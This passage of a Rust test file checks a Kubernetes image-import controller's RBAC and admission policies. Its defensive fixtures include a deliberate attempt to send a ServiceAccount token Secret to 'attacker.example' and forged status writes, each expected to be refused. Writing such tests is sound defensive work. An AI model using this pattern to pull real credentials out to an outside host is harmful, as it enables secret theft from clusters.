        "spec": {"accessModes": ["ReadOnlyMany"], "resources": {"requests": {"storage": "1Gi"}}}
    }))
    .unwrap();
    Api::<PersistentVolumeClaim>::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &pvc)
        .await
        .unwrap();
}

/// Polls `check` (a status-derived value) until it returns Some, or fails with the controller log.
async fn wait_for<T, F, Fut>(ctl: &Controller, what: &str, mut check: F) -> T
where
    F: FnMut() -> Fut,
    Fut: Future<Output = Option<T>>,
{
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some(v) = check().await {
            return v;
        }
        assert!(
            Instant::now() < deadline,
            "timed out waiting for {what}; controller log:\n{}",
            ctl.log()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

fn ready_reason(obj: &DynamicObject) -> Option<String> {
    obj.data["status"]["conditions"]
        .as_array()?
        .iter()
        .find(|c| c["type"] == "Ready")
        .and_then(|c| c["reason"].as_str().map(str::to_string))
}

/// The name of the Job the ImageImport's status names, once that Job exists.
async fn job_of(client: &Client, ns: &str, name: &str, generation: i64) -> Option<Job> {
    let obj = imageimports(client, ns).get(name).await.unwrap();
    let status = &obj.data["status"];
    if status["observedGeneration"].as_i64() != Some(generation) {
        return None;
    }
    let job_name = status["jobName"].as_str()?;
    Api::<Job>::namespaced(client.clone(), ns)
        .get_opt(job_name)
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn controller_runs_with_exactly_the_chart_rbac() {
    let objects = render(&[
        "--set",
        "image.repository=imageimport,image.tag=test",
        "--set",
        leader_election_set(),
    ]);
    let api = cluster().await;
    let admin = api.client().await;
    for ns in ["shop", "team"] {
        api.create_namespace(ns).await;
    }
    install_rbac(&api, &objects).await;
    let kubeconfig = api
        .service_account_kubeconfig(RELEASE_NS, CONTROLLER_SA)
        .await;

    // Run the binary as the Deployment would: its args and env (the downward API played here).
    let work = tempfile::tempdir().unwrap();
    let log = work.path().join("controller.log");
    // The chart's listener address, moved to a free loopback port (tests run in parallel).
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut serves_http = false;
    let mut cmd = Command::new(bin());
    for arg in args(&objects) {
        if arg.starts_with("--metrics-bind-address=") {
            assert_eq!(arg, "--metrics-bind-address=0.0.0.0:8080");
            serves_http = true;
            cmd.arg(format!("--metrics-bind-address=127.0.0.1:{port}"));
        } else {
            cmd.arg(arg);
        }
    }
    for e in container(&objects)["env"].as_array().unwrap() {
        let name = e["name"].as_str().unwrap();
        let value = match e["valueFrom"]["fieldRef"]["fieldPath"].as_str() {
            Some("metadata.name") => "imageimport-controller-0".to_string(),
            Some("metadata.namespace") => RELEASE_NS.to_string(),
            Some(other) => panic!("env {name}: unexpected fieldRef {other}"),
            None => e["value"].as_str().unwrap().to_string(),
        };
        cmd.env(name, value);
    }
    let child = cmd
        .env("KUBECONFIG", &kubeconfig)
        .env("RUST_LOG", "imageimport=debug,kube=info")
        .current_dir(work.path())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let ctl = Controller { child, log };

    // The probe and scrape paths of the Deployment and ServiceMonitor answer.
    if serves_http {
        let http = reqwest::Client::builder().no_proxy().build().unwrap();
        let c = container(&objects);
        for path in [
            c["livenessProbe"]["httpGet"]["path"].as_str().unwrap(),
            c["readinessProbe"]["httpGet"]["path"].as_str().unwrap(),
            "/metrics",
        ] {
            let url = format!("http://127.0.0.1:{port}{path}");
            wait_for(&ctl, &format!("GET {path} to answer 200"), || {
                let req = http.get(&url);
                async move {
                    let resp = req.send().await.ok()?;
                    resp.status().is_success().then_some(())
                }
            })
            .await;
        }
    }

    // A PVC import in two namespaces: worker identity applied there, Job created, event written.
    for ns in ["shop", "team"] {
        create_claim(&admin, ns, "deliveries").await;
        apply_import(&admin, ns, "web", "deliveries", &["1.4"]).await;
    }
    for ns in ["shop", "team"] {
        let job = wait_for(&ctl, &format!("the worker Job in {ns}"), || {
            job_of(&admin, ns, "web", 1)
        })
        .await;
        assert_eq!(job.name_any(), "web-g1-a1");
        let pod = job.spec.unwrap().template.spec.unwrap();
        assert_eq!(pod.service_account_name.as_deref(), Some(WORKER_SA));
        assert_eq!(pod.containers[0].image.as_deref(), Some("imageimport:test"));
        // The worker identity, written by the controller under its resourceNames-bound rules.
        assert!(
            Api::<ServiceAccount>::namespaced(admin.clone(), ns)
                .get_opt(WORKER_SA)
                .await
                .unwrap()
                .is_some()
        );
        let role = Api::<Role>::namespaced(admin.clone(), ns)
            .get(WORKER_SA)
            .await
            .unwrap();
        // Only `patch` of the status: the worker applies its progress, never reads.
        let rules = role.rules.unwrap();
        assert_eq!(rules.len(), 1);
        assert_eq!(rules[0].resources, Some(vec!["imageimports/status".into()]));
        assert_eq!(rules[0].verbs, vec!["patch".to_string()]);
        assert!(
            Api::<RoleBinding>::namespaced(admin.clone(), ns)
                .get_opt(WORKER_SA)
                .await
                .unwrap()
                .is_some()
        );
    }
    // kube-runtime's Recorder wrote the JobCreated event (events.k8s.io).
    let events = Api::<k8s_openapi::api::events::v1::Event>::namespaced(admin.clone(), "shop");
    wait_for(&ctl, "the JobCreated event", || {
        let events = events.clone();
        async move {
            let list = events.list(&ListParams::default()).await.unwrap();
            list.items
                .iter()
                .any(|e| e.reason.as_deref() == Some("JobCreated"))
                .then_some(())
        }
    })
    .await;

    // A missing claim: the metadata-only get of the claim, SourceNotFound, no Job.
    apply_import(&admin, "shop", "noclaim", "missing", &["1"]).await;
    wait_for(&ctl, "SourceNotFound", || {
        let api = imageimports(&admin, "shop");
        async move {
            let obj = api.get("noclaim").await.unwrap();
            (ready_reason(&obj).as_deref() == Some("SourceNotFound")).then_some(())
        }
    })
    .await;

    // A spec change: the previous generation's Job is deleted, a new one created.
    apply_import(&admin, "shop", "web", "deliveries", &["1.4", "stable"]).await;
    let job = wait_for(&ctl, "the generation-2 Job", || {
        job_of(&admin, "shop", "web", 2)
    })
    .await;
    assert_eq!(job.name_any(), "web-g2-a1");
    let jobs: Api<Job> = Api::namespaced(admin.clone(), "shop");
    wait_for(&ctl, "the generation-1 Job to be deleted", || {
        let jobs = jobs.clone();
        async move {
            match jobs.get_opt("web-g1-a1").await.unwrap() {
                None => Some(()),
                Some(j) if j.metadata.deletion_timestamp.is_some() => Some(()),
                Some(_) => None,
            }
        }
    })
    .await;

    // Leader election in the release namespace, as the Pod (POD_NAME) named by the chart's env.
    if args(&objects).iter().any(|a| a == "--leader-elect") {
        let leases: Api<Lease> = Api::namespaced(admin.clone(), RELEASE_NS);
        let lease = leases.get(LEASE).await.unwrap();
        assert_eq!(
            lease.spec.unwrap().holder_identity.as_deref(),
            Some("imageimport-controller-0")
        );
    }

    let text = ctl.log();
    for needle in ["forbidden", "Forbidden"] {
        assert!(
            !text.contains(needle),
            "the controller was refused something ({needle}):\n{text}"
        );
    }
}

// ----- admission policy -----

/// An ImageImport in `ns` from a URL, with `spec` merged over the base.
fn import_object(ns: &str, name: &str, extra_spec: Value) -> DynamicObject {
    let mut spec = json!({
        "source": {"url": {"url": "https://artifacts.example/web.tar"}},
        "target": {"repository": "registry.example/shop/web", "tags": ["1"]}
    });
    json_merge(&mut spec, &extra_spec);
    serde_json::from_value(json!({
        "apiVersion": "imageimport.dev/v1alpha1", "kind": "ImageImport",
        "metadata": {"name": name, "namespace": ns},
        "spec": spec
    }))
    .unwrap()
}

fn json_merge(a: &mut Value, b: &Value) {
    match (a, b) {
        (Value::Object(a), Value::Object(b)) => {
            for (k, v) in b {
                json_merge(a.entry(k.clone()).or_insert(Value::Null), v);
            }
        }
        (a, b) => *a = b.clone(),
    }
}

/// Create (dry-run unless `for_real`) as `client`; the API server's refusal, if any.
async fn try_create(client: &Client, obj: &DynamicObject, for_real: bool) -> Result<(), String> {
    let pp = PostParams {
        dry_run: !for_real,
        ..PostParams::default()
    };
    imageimports(client, obj.metadata.namespace.as_deref().unwrap())
        .create(&pp, obj)
        .await
        .map(|_| ())
        .map_err(|e| e.to_string())
}

/// Until the admission policy answers (bindings take effect asynchronously): `attempt` is
/// retried until it is refused, and the refusal returned.
async fn first_refusal<F, Fut>(what: &str, mut attempt: F) -> String
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Result<(), String>>,
{
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Err(e) = attempt().await {
            return e;
        }
        assert!(Instant::now() < deadline, "{what} was never refused");
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

/// On the real API server, with the chart's ValidatingAdmissionPolicies: a user who may create
/// ImageImports but not read Secrets can name no Secret (nor ConfigMap, nor claim) it cannot
/// read, at creation or by a later spec change; with `get` on one Secret, that one works. And
/// the worker's identity may write `status.progress` only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admission_policy_requires_reading_every_reference() {
    let objects = render(&[]);
    let api = cluster().await;
    let admin = api.client().await;
    for o in objects.iter().filter(|o| {
        o["apiVersion"]
            .as_str()
            .unwrap()
            .starts_with("admissionregistration.k8s.io/")
    }) {
        apply_object(&admin, o, false).await.unwrap();
    }
    let ns = "ci";
    api.create_namespace(ns).await;
    // The CI robot: ImageImports yes, Secrets no, except the one it was given.
    let rbac = |kind: &str, body: Value| -> DynamicObject {
        let mut v = body;
        v["apiVersion"] = json!("rbac.authorization.k8s.io/v1");
        v["kind"] = json!(kind);
        v["metadata"]["namespace"] = json!(ns);
        serde_json::from_value(v).unwrap()
    };
    let role = |name: &str, rules: Value| {
        rbac("Role", json!({"metadata": {"name": name}, "rules": rules}))
    };
    let bind = |name: &str, subject: Value| {
        rbac(
            "RoleBinding",
            json!({"metadata": {"name": name},
                   "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
                   "subjects": [subject]}),
        )
    };
    let robot =
        json!({"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "ci-robot"});
    let worker_sa = json!({"kind": "ServiceAccount", "name": WORKER_SA, "namespace": ns});
    let mut to_create = vec![
        role(
            "importer",
            json!([{"apiGroups": ["imageimport.dev"], "resources": ["imageimports"],
                                  "verbs": ["create", "get", "patch", "update"]}]),
        ),
        bind("importer", robot.clone()),
        role(
            "given-token",
            json!([{"apiGroups": [""], "resources": ["secrets"],
                                     "resourceNames": ["given-token"], "verbs": ["get"]}]),
        ),
        bind("given-token", robot),
        role(
            WORKER_SA,
            json!([{"apiGroups": ["imageimport.dev"], "resources": ["imageimports/status"],
                                "verbs": ["patch"]}]),
        ),
        bind(WORKER_SA, worker_sa),
    ];
    for o in to_create.drain(..) {
        let kind = o.types.as_ref().unwrap().kind.clone();
        let resource = if kind == "Role" {
            ApiResource::erase::<Role>(&())
        } else {
            ApiResource::erase::<RoleBinding>(&())
        };
        Api::<DynamicObject>::namespaced_with(admin.clone(), ns, &resource)
            .create(&PostParams::default(), &o)
            .await
            .unwrap();
    }
    let sa: ServiceAccount =
        serde_json::from_value(json!({"metadata": {"name": WORKER_SA}})).unwrap();
    Api::<ServiceAccount>::namespaced(admin.clone(), ns)
        .create(&PostParams::default(), &sa)
        .await
        .unwrap();
    let ci = api.impersonating_client("ci-robot", &[]).await;

    // A ServiceAccount token's Secret the robot cannot read, sent as a Bearer token to a host
    // of its choosing: refused, saying why.
    let exfil = import_object(
        ns,
        "exfil",
        json!({"source": {"url": {"url": "https://attacker.example/x.tar", "secretRef": {"name": "sa-token"}}}}),
    );
    let refusal = first_refusal("a secretRef the creator cannot read", || {
        try_create(&ci, &exfil, false)
    })
    .await;
    assert!(
        refusal.contains("spec.source.url.secretRef") && refusal.contains("sa-token"),
        "{refusal}"
    );
    for (what, spec) in [
        (
            "credentialsSecretRef",
            json!({"target": {"credentialsSecretRef": {"name": "regcred"}}}),
        ),
        (
            "url.caBundleRef",
            json!({"source": {"url": {"caBundleRef": {"name": "ca", "key": "ca.crt"}}}}),
        ),
        (
            "target.caBundleRef",
            json!({"target": {"caBundleRef": {"name": "ca", "key": "ca.crt"}}}),
        ),
        (
            "pvc.claimName",
            json!({"source": {"url": null, "pvc": {"claimName": "deliveries", "path": "a.tar"}}}),
        ),
    ] {
        let mut obj = import_object(ns, "x", spec);
        if what == "pvc.claimName" {
            obj.data["spec"]["source"]
                .as_object_mut()
                .unwrap()
                .remove("url");
        }
        let e = try_create(&ci, &obj, false).await.unwrap_err();
        assert!(
            e.contains(what) && e.contains("you may not get"),
            "{what}: {e}"
        );
    }
    // The Secret it was given, and no reference at all: accepted.
    let given = import_object(
        ns,
        "given",
        json!({"source": {"url": {"secretRef": {"name": "given-token"}}}}),
    );
    try_create(&ci, &given, false).await.unwrap();
    try_create(&ci, &import_object(ns, "plain", json!({})), true)
        .await
        .unwrap();
    // A spec change is checked as a creation is; a label is not a spec change.
    let by_admin = import_object(
        ns,
        "by-admin",
        json!({"source": {"url": {"secretRef": {"name": "sa-token"}}}}),
    );
    try_create(&admin, &by_admin, true).await.unwrap();
    let imports = imageimports(&ci, ns);
    imports
        .patch(
            "by-admin",
            &PatchParams::default(),
            &Patch::Merge(&json!({"metadata": {"labels": {"team": "ci"}}})),
        )
        .await
        .unwrap();
    let e = imports
        .patch(
            "by-admin",
            &PatchParams::default(),
            &Patch::Merge(
                &json!({"spec": {"source": {"url": {"url": "https://attacker.example/y.tar"}}}}),
            ),
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("sa-token"), "{e}");

    // The worker's identity: progress yes, anything else of the status no.
    let worker = api.service_account_client(ns, WORKER_SA).await;
    let as_worker = imageimports(&worker, ns);
    let apply = |status: Value| {
        let as_worker = as_worker.clone();
        async move {
            as_worker
                .patch_status(
                    "plain",
                    &PatchParams::apply("imageimport-worker-progress").force(),
                    &Patch::Apply(&json!({"apiVersion": "imageimport.dev/v1alpha1",
                                          "kind": "ImageImport", "status": status})),
                )
                .await
                .map(|_| ())
                .map_err(|e| e.to_string())
        }
    };
    let forged = format!("sha256:{}", "f".repeat(64));
    let e = first_refusal("a status write of the worker beyond progress", || {
        apply(json!({"digest": forged}))
    })
    .await;
    assert!(e.contains("status.progress only"), "{e}");
    let ready = json!({"conditions": [{"type": "Ready", "status": "True", "reason": "Succeeded",
        "message": "forged", "lastTransitionTime": "2026-01-01T00:00:00Z"}]});
    assert!(apply(ready).await.is_err());
    apply(json!({"progress": {"bytesDone": 5, "bytesTotal": 10, "phase": "pushing"}}))
        .await
        .unwrap();
    let st = imageimports(&admin, ns).get_status("plain").await.unwrap();
    assert_eq!(st.data["status"]["progress"]["bytesDone"], 5);
    assert!(st.data["status"].get("digest").is_none());
}

/// The worker-progress-only rule names every status field of the CRD except `progress`: a
/// field added to the status without adding it there would be writable by the worker.
#[test]
fn the_worker_rule_covers_every_status_field() {
    let objects = render(&[]);
    let rule = objects
        .iter()
        .find(|o| {
            o["kind"] == "ValidatingAdmissionPolicy"
                && o["metadata"]["name"]
                    .as_str()
                    .unwrap()
                    .ends_with("worker-progress-only")
        })
        .expect("the worker rule")["spec"]["validations"][0]["expression"]
        .as_str()
        .unwrap()
        .to_string();
    let crd: Value = serde_yaml::from_str(&std::fs::read_to_string(CRD).unwrap()).unwrap();
    let props = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["status"]
        ["properties"]
        .as_object()
        .unwrap();
    for field in props.keys().filter(|k| *k != "progress") {
        let plain = format!("object.?status.?{field} == oldObject.?status.?{field}");
        let defaulted = format!("object.?status.?{field}.orValue(");
        assert!(
            rule.contains(&plain) || rule.contains(&defaulted),
            "status.{field} is not in the worker rule: {rule}"
        );
    }
    assert!(!rule.contains("?progress"));
}
